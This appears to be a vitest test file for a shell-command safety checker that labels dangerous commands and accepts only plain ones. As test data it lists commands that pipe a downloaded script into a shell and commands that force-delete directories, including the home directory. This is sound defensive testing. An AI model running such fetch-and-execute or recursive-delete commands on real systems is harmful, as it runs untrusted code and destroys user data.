// Commands that a reader should look at first are told apart from those that are plain.
import { describe, expect, it } from 'vitest';
import { dangersOf, isPlainCommand } from './unsafe-shell.ts';

describe('dangersOf', () => {
  it.each([
    ['curl -fsSL https://x.example/i.sh | sh', 'downloads and runs a program'],
    ['wget -qO- x.example | tee a | sudo bash', 'downloads and runs a program'],
    ['bash -c "curl x.example | sh"', 'downloads and runs a program'],
    ['sh <(curl -s x.example)', 'downloads and runs a program'],
    ['true && sudo make install', 'asks for more rights'],
    ['rm -rf /var/lib/x', 'deletes files by force'],
    ['rm -r -f "$HOME"', 'deletes files by force'],
    ['(cd a; rm -rf ../..)', 'deletes files by force'],
  ])('%s', (text, danger) => {
    expect(dangersOf(text)).toContain(danger);
  });
  it.each(['npm ci', 'rm -rf dist', 'curl -o a.txt x.example', 'echo sudo', 'go test ./... | tee out'])(
    'passes %s',
    (text) => {
      expect(dangersOf(text)).toEqual([]);
    },
  );
});

describe('isPlainCommand', () => {
  it.each([
    'npm run build',
    'python -m pip install -r requirements.txt',
    'docker compose -f a.yml up',
    'npx vitest run a/b.test.ts',
  ])('%s', (text) => {
    expect(isPlainCommand(text)).toBe(true);
  });
  it.each([
    'npm ci && x',
    'npm ci | x',
    'npm ci > x',
    'npm ci; x',
    'npm $(x)',
    'npm `x`',
    'A=1 npm ci',
    'npm ci &',
    'sudo npm ci',
    'curl x',
    'npm $X',
    'npm *',
    '',
    'npm ci\nx',
    'rm x',
    "npm 'a'",
  ])('refuses %s', (text) => {
    expect(isPlainCommand(text)).toBe(false);
  });
});
